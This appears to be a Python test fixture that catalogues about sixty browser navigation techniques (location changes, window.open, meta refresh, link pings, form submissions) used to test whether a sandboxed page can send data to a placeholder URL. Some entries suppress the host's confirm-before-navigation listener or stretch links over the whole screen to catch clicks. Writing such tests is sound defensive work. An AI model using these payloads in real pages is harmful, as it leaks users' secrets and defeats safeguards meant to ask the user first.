"""Ways by going somewhere: the frame itself, the tab, a new tab, a form, a link."""

from e2e.exfiltration.ways.way import Way

_PROGRAM = "handed to another program, if to anybody"
_SAME = "it stays in the document"
_TO_A_BUTTON = "<style>a,button,input,area{position:fixed;inset:0;font-size:60px}</style>"


def _click(name: str, html: str, *, alone: bool = False, mute: str = "") -> Way:
    return Way(
        name,
        html,
        "document.getElementById('x').dispatchEvent("
        "new MouseEvent('click', {bubbles: true, cancelable: true}));",
        alone=alone,
        mute=mute,
    )


def _form(name: str, attributes: str, inside: str = "", *, alone: bool = False) -> Way:
    html = (
        f'<form action="$URL" {attributes}><input name="secret" value="hunter2">'
        f"{inside or '<button>x</button>'}</form>"
    )
    return Way(f"form-{name}", html, "document.querySelector('button').click();", alone=alone)


def _pressed(name: str, html: str, script: str = "") -> Way:
    return Way(f"pressed-{name}", _TO_A_BUTTON + html, script, alone=True, pressed=True)


# Keeps the host's own listener, which asks before a link is followed, from hearing of it.
_HUSH = "addEventListener('click', (event) => event.stopImmediatePropagation(), true);"

NAVIGATION = [
    Way("location-href", script="location.href = '$URL';"),
    Way("location-assign", script="location.assign('$URL');"),
    Way("location-replace", script="location.replace('$URL');"),
    Way("document-location", script="document.location = '$URL';"),
    Way("location-twice", script="location.href = 'http://127.0.0.1:9/'; location.href = '$URL';"),
    Way("navigation-api", script="navigation.navigate('$URL');"),
    Way("history-state", script="history.pushState(0, '', '#$URL');", mute=_SAME),
    Way(
        "refresh-by-script",
        script="document.head.insertAdjacentHTML('beforeend',"
        "'<meta http-equiv=refresh content=\"0;url=$URL\">');",
    ),
    Way(
        "document-write-refresh",
        script="document.write("
        "'<meta http-equiv=refresh content=\"0;url=$URL\">'); document.close();",
    ),
    Way("to-data", script="location = 'data:text/html,<img src=\"$URL\">';"),
    Way(
        "to-blob",
        script="location = URL.createObjectURL(new Blob(['<img src=\"$URL\">'],"
        "{type: 'text/html'}));",
    ),
    Way("to-javascript", script="location = 'javascript:fetch(\"$URL\")';"),
    Way(
        "to-blob-refresh",
        script="location = URL.createObjectURL(new Blob(["
        "'<meta http-equiv=refresh content=\"0;url=$URL\">'], {type: 'text/html'}));",
    ),
    Way("view-source", script="location = 'view-source:$URL';", mute=_PROGRAM),
    Way("mailto", script="location = 'mailto:x@127.0.0.1?body=$URL';", mute=_PROGRAM),
    Way("other-scheme", script="location = 'web+x:$URL';", mute=_PROGRAM),
    Way("top-location", script="top.location = '$URL';", alone=True),
    Way("parent-location", script="parent.location = '$URL';", alone=True),
    Way(
        "top-hash",
        script="top.location.replace(top.location.href + '#x'); top.location = '$URL';",
        alone=True,
    ),
    Way("top-navigation-api", script="top.navigation.navigate('$URL');", alone=True),
    Way("open-blank", script="open('$URL');", alone=True),
    Way("open-noopener", script="open('$URL', '_blank', 'noopener');", alone=True),
    Way("open-top", script="open('$URL', '_top');", alone=True),
    Way("open-parent", script="open('$URL', '_parent');", alone=True),
    Way("open-self", script="open('$URL', '_self');"),
    Way("open-named", script="open('$URL', 'x');", alone=True),
    Way("open-then-go", script="open('about:blank').location = '$URL';", alone=True),
    Way(
        "opener",
        script="(top.opener ?? opener).location = '$URL';",
        mute="a session's page has no opener",
    ),
    _click("link-click", '<a id="x" href="$URL">x</a>'),
    _click("link-top", '<a id="x" href="$URL" target="_top">x</a>', alone=True),
    _click("link-blank", '<a id="x" href="$URL" target="_blank">x</a>', alone=True),
    _click("link-download", '<a id="x" href="$URL" download>x</a>'),
    _click("link-ping", '<a id="x" href="#x" ping="$URL">x</a>'),
    _click("link-ping-away", '<a id="x" href="http://127.0.0.1:9/" ping="$URL">x</a>'),
    _click("area-click", '<map><area id="x" href="$URL"></map>'),
    _click("svg-link", '<svg><a id="x" href="$URL"><text y="9">x</text></a></svg>'),
    _click(
        "svg-link-xlink",
        '<svg xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<a id="x" xlink:href="$URL"><text y="9">x</text></a></svg>',
    ),
    _click(
        "mathml-link",
        '<math><mi id="x" href="$URL">x</mi></math>',
        mute="this browser has no links in formulas",
    ),
    _click("base-target", '<base target="_top"><a id="x" href="$URL">x</a>', alone=True),
    _form("get", ""),
    _form("post", 'method="post"'),
    _form("dialog", 'method="dialog"', '<button formmethod="get">x</button>'),
    _form("text-plain", 'method="post" enctype="text/plain"'),
    _form("formaction", "", '<button formaction="$URL">x</button>'),
    _form("top", 'target="_top"', alone=True),
    _form("blank", 'target="_blank"', alone=True),
    _form("formtarget", "", '<button formtarget="_top">x</button>', alone=True),
    _form("into-frame", 'target="f"', '<button>x</button><iframe name="f"></iframe>'),
    Way(
        "form-submit-call",
        '<form action="$URL"><input name="a"></form>',
        "document.forms[0].submit();",
    ),
    Way(
        "form-request-submit",
        '<form action="$URL"><input name="a"></form>',
        "document.forms[0].requestSubmit();",
    ),
    _pressed("link", '<a href="$URL">x</a>'),
    _pressed("link-hushed", '<a href="$URL">x</a>', _HUSH),
    _pressed("top-hushed", '<a href="$URL" target="_top">x</a>', _HUSH),
    _pressed("blank-hushed", '<a href="$URL" target="_blank">x</a>', _HUSH),
    _pressed("download-hushed", '<a href="$URL" download>x</a>', _HUSH),
    _pressed("ping-hushed", '<a href="http://127.0.0.1:9/" ping="$URL">x</a>', _HUSH),
    _pressed("open", "<button onclick=\"window.open('$URL')\">x</button>"),
    _pressed("top", "<button onclick=\"top.location = '$URL'\">x</button>"),
    _pressed("form", '<form action="$URL"><button>x</button></form>'),
    _pressed("form-top", '<form action="$URL" target="_top"><button>x</button></form>'),
]
